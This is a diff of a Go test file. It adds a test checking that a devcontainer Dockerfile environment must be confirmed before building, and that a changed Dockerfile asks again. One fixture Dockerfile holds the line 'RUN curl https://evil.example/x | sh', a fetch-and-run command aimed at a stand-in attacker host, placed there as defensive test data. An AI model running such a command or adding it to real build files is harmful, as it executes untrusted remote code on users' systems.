@@ -190,7 +190,41 @@ func TestTrustCoversImageAndHosts(t *testing.T) {
 	}
 }
 
-// TestEnvironmentNotBuiltYet: a devcontainer.json in the Dockerfile or
+// TestDockerfileConfirmed: a Dockerfile environment is confirmed before
+// anything is pulled or built, and the prompt names the Dockerfile, the
+// images it starts from and what the build may reach; a changed
+// Dockerfile asks again.
+func TestDockerfileConfirmed(t *testing.T) {
+	src, _ := testSource(t)
+	proj := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(proj, ".devcontainer"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	writeFile(t, filepath.Join(proj, ".devcontainer/devcontainer.json"), `{"build": {"dockerfile": "Dockerfile", "context": "..", "args": {"V": "3.12"}, "target": "dev"}}`)
+	writeFile(t, filepath.Join(proj, ".devcontainer/Dockerfile"), "ARG V\nFROM mcr.microsoft.com/devcontainers/python:${V} AS dev\nFROM ghcr.io/x/tools:1 AS tools\nRUN apt-get update\n")
+	_, err := src.Environment(context.Background(), EnvironmentRequest{Project: proj})
+	var untrusted *UntrustedEnvironmentError
+	if !errors.As(err, &untrusted) {
+		t.Fatalf("Environment: %v, want it to ask for a confirmation", err)
+	}
+	for _, want := range []string{"Dockerfile: .devcontainer/Dockerfile, built from the context ., stage dev, by Docker in a builder VM",
+		"FROM mcr.microsoft.com/devcontainers/python:3.12 (line 2", "FROM ghcr.io/x/tools:1 (line 3", "the build may reach: @debian, @mcr, @ghcr"} {
+		if !strings.Contains(err.Error(), want) {
+			t.Errorf("the prompt lacks %q:\n%s", want, err)
+		}
+	}
+	if ims, _ := image.List(src.Home); len(ims) != 1 {
+		t.Errorf("images before a confirmation: %d, want the minimal image only", len(ims))
+	}
+	key := untrusted.Env.ConfirmKey()
+	writeFile(t, filepath.Join(proj, ".devcontainer/Dockerfile"), "FROM debian\nRUN curl https://evil.example/x | sh\n")
+	_, err = src.Environment(context.Background(), EnvironmentRequest{Project: proj})
+	if !errors.As(err, &untrusted) || untrusted.Env.ConfirmKey() == key {
+		t.Errorf("a changed Dockerfile has the same confirmation: %v", err)
+	}
+}
+
+// TestEnvironmentNotBuiltYet: a devcontainer.json in the
 // Compose form is read whole, then refused before anything is pulled or
 // built, saying what it needs; Docker and features are notes, and the run
 // goes on without them.
@@ -200,8 +234,6 @@ func TestEnvironmentNotBuiltYet(t *testing.T) {
 		files map[string]string
 		want  string
 	}{
-		{"dockerfile", map[string]string{".devcontainer/devcontainer.json": `{"build": {"dockerfile": "Dockerfile"}}`, ".devcontainer/Dockerfile": "FROM debian\n"},
-			"needs its image built from .devcontainer/Dockerfile in a builder VM"},
 		{"compose", map[string]string{".devcontainer/devcontainer.json": `{"dockerComposeFile": "c.yml", "service": "app"}`,
 			".devcontainer/c.yml": "services: {app: {image: debian}, db: {image: postgres}}\n"},
 			"needs the Compose services of .devcontainer/c.yml started beside the agent"},
